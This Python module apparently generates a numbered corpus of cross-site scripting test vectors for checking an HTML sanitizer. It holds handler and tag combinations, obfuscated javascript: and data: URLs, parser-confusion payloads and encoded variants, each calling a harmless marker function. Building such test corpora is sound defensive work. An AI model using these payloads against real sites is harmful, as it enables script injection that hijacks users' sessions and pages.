"""Ways to bring a script into a page, each of which would call ``xss(n)``."""

from __future__ import annotations

_HANDLERS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle"),
    *("onpointerenter", "onbeforescriptexecute", "onwheel", "onbegin", "oncanplay", "onplay"),
)
_TAGS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x"),
    *("iframe", "marquee", "select autofocus", "object data=x", "embed src=x", "math", "p"),
)
_SCHEMES = (
    "javascript:xss({n})",
    "JaVaScRiPt:xss({n})",
    "java\tscript:xss({n})",
    "java\nscript:xss({n})",
    " javascript:xss({n})",
    "\x01javascript:xss({n})",
    "&#106;avascript:xss({n})",
    "&#x6A;avascript&colon;xss({n})",
    "javascript&NewLine;:xss({n})",
    "javascript://%0axss({n})",
    "vbscript:xss({n})",
    "data:text/html,<script>parent.xss({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKHtufSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.xss({n})'/>",
    "blob:javascript:xss({n})",
    "//x/&quot;onerror=xss({n})//",
)
_CARRIERS = (
    '<a href="{}">看</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<video src="{}" poster="{}" autoplay></video>',
    '<form action="{}"><button>看</button></form>',
)
_SINGLE = (
    "<script>xss({n})</script>",
    "<SCRIPT SRC=data:text/javascript,xss({n})></SCRIPT>",
    "<scr<script>ipt>xss({n})</scr</script>ipt>",
    "<script/xx>xss({n})</script>",
    "<script\x0c>xss({n})</script>",
    "<<script>xss({n})//<</script>",
    "<script>xss({n})<!--",
    "<img src=x onerror=xss({n})//",
    "<img src='x'onerror='xss({n})'>",
    "<img src=x:x onerror\n=\nxss({n})>",
    "<img/src=x/onerror=xss({n})>",
    "<img src=`x`onerror=xss({n})>",
    "<img \x00src=x onerror=xss({n})>",
    "<svg><script>xss({n})</script></svg>",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:xss({n})'><text y=20>看</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=xss({n}) />#x"></use></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.xss({n})</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})></style></mglyph></table>",
    "<math><annotation-xml encoding='text/html'><script>xss({n})</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=xss({n})>'></noscript>",
    "<style><img src='</style><img src=x onerror=xss({n})//'></style>",
    "<style>@import 'javascript:xss({n})'; p {{ background: url(javascript:xss({n})) }}</style>",
    "<p style='background:url(javascript:xss({n}))'>看</p>",
    "<p style='width:expression(xss({n}))'>看</p>",
    "<p style='animation:x' onanimationend=xss({n})>看</p><style>@keyframes x{{}}</style>",
    "<xmp><img src=x onerror=xss({n})></xmp>",
    "<textarea><img src=x onerror=xss({n})></textarea>",
    "<title><img src=x onerror=xss({n})></title>",
    "<template><script>xss({n})</script></template>",
    "<plaintext><img src=x onerror=xss({n})>",
    "<!--><img src=x onerror=xss({n})>-->",
    "<!--[if gte IE 4]><script>xss({n})</script><![endif]-->",
    "<![CDATA[<img src=x onerror=xss({n})>]]>",
    "<?xml version='1.0'?><img src=x onerror=xss({n})>",
    '<iframe srcdoc="<img src=x onerror=parent.xss({n})>"></iframe>',
    "<object type='text/html' data='javascript:xss({n})'></object>",
    "<base href='javascript:xss({n})//'>",
    "<link rel=stylesheet href='data:text/css,*{{x:expression(xss({n}))}}'>",
    "<link rel=import href='data:text/html,<script>xss({n})</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:xss({n})'>",
    "<isindex action='javascript:xss({n})' type=submit>",
    "<keygen autofocus onfocus=xss({n})>",
    "<button formaction='javascript:xss({n})'>看</button>",
    "<table background='javascript:xss({n})'><tr><td background='javascript:xss({n})'>看</table>",
    "<body background='javascript:xss({n})'>",
    "<bgsound src='javascript:xss({n})'>",
    "<img lowsrc='javascript:xss({n})' dynsrc='javascript:xss({n})'>",
    "<img srcset='x' onerror=xss({n})>",
    "<picture><source srcset=x onerror=xss({n})><img src=x onerror=xss({n})></picture>",
    "&lt;img src=x onerror=xss({n})&gt;",
    "&amp;lt;script&amp;gt;xss({n})&amp;lt;/script&amp;gt;",
    "\u003cimg src=x onerror=xss({n})\u003e",
    "%3Cscript%3Exss({n})%3C/script%3E",
    "＜script＞xss({n})＜/script＞",
    "<p title='\"><img src=x onerror=xss({n})>'>看</p>",
    "<figure><img src='/u/1.jpg' alt='\"><img src=x onerror=xss({n})>'>"
    "<figcaption>&lt;img src=x onerror=xss({n})&gt;</figcaption></figure>",
    "<img src='/u/2.jpg&quot; onerror=&quot;xss({n})'>",
    "<video poster='x\" onerror=\"xss({n})' src='/u/3.mp4'></video>",
    "<ul><li>&lt;script&gt;xss({n})&lt;/script&gt;</li></ul>",
    "<table><tr><td>&lt;svg onload=xss({n})&gt;</td><td>看</td></tr></table>",
    "<blockquote>&lt;iframe src=javascript:xss({n})&gt;</blockquote>",
    "<h3>&lt;body onload=xss({n})&gt;</h3>",
)


def vectors() -> list[str]:
    """All of them, each with its own number in it."""
    rows = [f"<{tag} {h}=xss({{n}})>看" for tag in _TAGS[:4] for h in _HANDLERS]
    rows += [f"<{tag} onload=xss({{n}}) onerror=xss({{n}}) onfocus=xss({{n}})>" for tag in _TAGS]
    rows += [carrier.replace("{}", scheme) for carrier in _CARRIERS for scheme in _SCHEMES]
    rows += _SINGLE
    return [
        row.replace("{{", "{").replace("}}", "}").replace("{n}", str(n))
        for n, row in enumerate(rows)
    ]
